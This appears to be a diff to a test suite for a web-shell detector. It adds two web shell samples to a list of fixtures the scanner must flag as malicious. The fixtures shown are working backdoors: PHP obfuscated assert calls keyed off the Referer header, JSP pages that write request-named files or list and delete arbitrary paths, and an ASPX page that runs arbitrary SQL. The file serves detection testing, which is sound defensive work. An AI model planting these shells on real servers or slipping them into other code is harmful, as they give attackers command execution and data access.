@@ -38,6 +38,8 @@ const MALICIOUS: [string, string, string][] = [
   ['a callback named by a header\'s piece and a name\'s tail, given request input', '/var/www/html/ii.php', `<?php\n$h = substr($_SERVER['HTTP_REFERER'], -7, -4);\nforward_static_call_array($h . 'ert', array($_REQUEST['z']));\n`],
   ['JSP logging the request\'s text into a file the request names, through java.util.logging', '/var/lib/tomcat/webapps/ROOT/oo.jsp', `<%java.util.logging.Logger g = java.util.logging.Logger.getLogger("x"); java.util.logging.FileHandler fh = new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("n"), true); g.addHandler(fh); g.info(request.getParameter("t"));%>`],
   ['a JSP file manager whose class Shell lists, reads and deletes any path from the process\'s directory', '/var/lib/tomcat/webapps/ROOT/pp.jsp', `<%@ page import="java.io.*,java.util.*" %>\n<%! public static class Shell {\n  HttpServletRequest req; Shell(HttpServletRequest r) { req = r; }\n  String getParam(String n, String d) { String v = req.getParameter(n); return v == null ? d : v; }\n  String home() { return System.getProperty("user.dir", "/"); }\n  List<String> list() { List<String> o = new ArrayList<String>(); File[] fs = new File(getParam("path", home())).listFiles(); if (fs != null) for (File f : fs) o.add(f.getName()); return o; }\n  boolean remove() { return new File(getParam("path", "")).delete(); }\n} %>\n<% Shell s = new Shell(request); if ("rm".equals(request.getParameter("a"))) out.print(s.remove()); else out.print(s.list()); %>`],
+  ['a VB.NET page whose text boxes, trimmed, give the connection string and the query (S34B-17)', '/inetpub/wwwroot/ss.aspx', `<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n<script runat="server">\nSub Go(s As Object, e As EventArgs)\n  Dim db As New SqlConnection()\n  db.ConnectionString = boxConn.Text.Trim()\n  db.Open()\n  Dim cmd As New SqlCommand(boxSql.Text, db)\n  grid.DataSource = cmd.ExecuteReader()\n  grid.DataBind()\nEnd Sub\n</script>`],
+  ['a callback named in an interpolated string of a header\'s piece and a name\'s tail (S34B-12)', '/var/www/html/tt.php', `<?php\n$h = substr($_SERVER['HTTP_REFERER'], -7, -4);\ncall_user_func("{$h}ert", $_REQUEST['z']);\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -72,7 +74,7 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 24));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 26));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
